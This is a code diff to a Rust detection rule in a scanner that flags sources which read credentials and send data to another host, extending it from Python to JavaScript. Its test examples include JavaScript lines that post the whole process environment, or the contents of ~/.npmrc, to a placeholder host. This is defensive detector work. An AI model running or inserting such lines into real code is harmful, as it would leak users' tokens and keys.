@@ -1,4 +1,4 @@
-//! Python sources that read credentials and talk to other hosts in one function.
+//! Sources that read credentials and talk to other hosts in one function.
 
 use std::collections::BTreeMap;
 
@@ -8,26 +8,51 @@ use weighbridge_domain::{Confidence, Severity};
 use super::source::{self, texts};
 use super::{Check, Example, Findings, Light, Rule};
 use crate::facts::{Facts, Place};
-use crate::known::effects::{Effect, effect};
+use crate::known::effects::{Effect, effect_in};
 use crate::known::places::{self, place};
+use crate::samples::script::script;
 use crate::samples::source::{function, module};
 use crate::text;
 
-/// Python sources that read credentials and talk to other hosts in one function.
+/// Sources that read credentials and talk to other hosts in one function.
 pub static RULE: Rule = Rule {
     id: "source-sends-secrets",
     severity: Severity::Critical,
     confidence: Confidence::Medium,
     light: Light::Content,
     since: "0.1.0",
-    summary: "A Python source reads credentials and sends something to another host, in one function",
+    summary: "A source reads credentials and sends something to another host, in one function",
     why: "Tokens of hubs and clouds are in the environment and in files of the home folder of whoever loads a model. Critical \
           when a file of keys or the whole environment is read and something is sent as soon as the file is imported, else \
           high; where a variable with a token's name is read, as clients of services do: high on import, medium while the model \
-          is loaded or answers, low elsewhere.",
+          is loaded or answers, low elsewhere. In scripts that no loader of models runs by itself (JavaScript) only files of \
+          keys and the whole environment count, as high and medium.",
     advice: "Find out what is sent where. Load models without credentials in the environment.",
     references: &["CWE-200", "CWE-522", "AML.T0025", "AML.T0055"],
     examples: &[
+        Example {
+            name: "javascript-environment",
+            files: || {
+                script("fetch('https://demo.invalid', {method: 'POST', body: JSON.stringify(process.env)})")
+            },
+            fires: &["source-opens-network", "source-sends-secrets"],
+        },
+        Example {
+            name: "javascript-environment-twin",
+            files: || {
+                script("fetch('https://demo.invalid', {headers: {Authorization: process.env.HF_TOKEN}})")
+            },
+            fires: &["source-opens-network"],
+        },
+        Example {
+            name: "javascript-file",
+            files: || {
+                script(
+                    "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc');\nfetch('https://demo.invalid', {body: key})",
+                )
+            },
+            fires: &["source-opens-network", "source-sends-secrets"],
+        },
         Example {
             name: "token",
             files: || {
@@ -110,15 +135,19 @@ struct Function<'a> {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     let mut functions: BTreeMap<(usize, &str), Function<'_>> = BTreeMap::new();
-    for (place, one) in facts.uses().filter(|(place, _)| place.is_of_python()) {
+    for (place, one) in facts.uses().filter(|(place, _)| place.is_of_python() || place.is_of_javascript()) {
         let part = std::ptr::from_ref(place.reading).addr();
         let function = functions.entry((part, &one.within)).or_default();
-        match effect(&one.name) {
+        match effect_in(one.language, &one.name) {
             Some(Effect::Network) => {
                 function.sends.get_or_insert(one);
             }
             Some(Effect::Environment | Effect::Reads) => {
                 let Some(much) = reads(one) else { continue };
+                // A token that a script uses where it asks a hub is no secret that it sends away.
+                if !much && !source::is_python(one) {
+                    continue;
+                }
                 if function.reads.is_none_or(|(_, _, before)| much && !before) {
                     function.reads = Some((place, one, much));
                 }
@@ -130,6 +159,8 @@ fn check(facts: &Facts, findings: &mut Findings<'_>) {
         let (Some((place, one, much)), Some(sends)) = (reads, sends) else { continue };
         let when = one.when.max(sends.when);
         let severity = match (much, when) {
+            (true, When::Loaded | When::Installed) if !source::is_python(one) => Severity::High,
+            (true, _) if !source::is_python(one) => Severity::Medium,
             (true, When::Loaded | When::Installed) => Severity::Critical,
             (true, _) | (false, When::Loaded | When::Installed) => Severity::High,
             (false, When::Served) => Severity::Medium,
@@ -151,7 +182,7 @@ fn check(facts: &Facts, findings: &mut Findings<'_>) {
 fn reads(one: &Use) -> Option<bool> {
     let Some(arguments) = &one.arguments else { return Some(true) };
     let mut texts = arguments.iter().flat_map(|argument| texts(&argument.value));
-    if effect(&one.name) == Some(Effect::Reads) {
+    if effect_in(one.language, &one.name) == Some(Effect::Reads) {
         return texts.any(|path| place(path) == Some(places::Place::Credentials)).then_some(true);
     }
     let whole = matches!(one.name.rsplit('.').next(), Some("copy" | "items" | "values" | "dotenv_values"));
